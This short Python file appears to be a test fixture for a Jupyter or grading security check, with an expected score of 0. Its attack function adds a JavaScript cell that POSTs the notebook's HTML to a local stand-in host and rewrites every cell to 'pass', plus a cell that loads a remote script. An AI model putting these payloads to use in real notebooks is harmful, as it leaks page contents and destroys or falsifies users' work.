"""Runs JavaScript by magic and by display, which in Jupyter could rewrite other cells.

deserves: 0
"""

CELL = """
%%javascript
fetch("http://127.0.0.1:48484/", {method: "POST", body: document.documentElement.outerHTML});
Jupyter.notebook.get_cells().forEach(cell => cell.set_text("pass"));
"""

CELL2 = """
from IPython.display import Javascript, display
display(Javascript("alert(1)", lib="http://127.0.0.1:48484/lib.js"))
"""


def attack(work):
    work.add(CELL)
    work.add(CELL2)
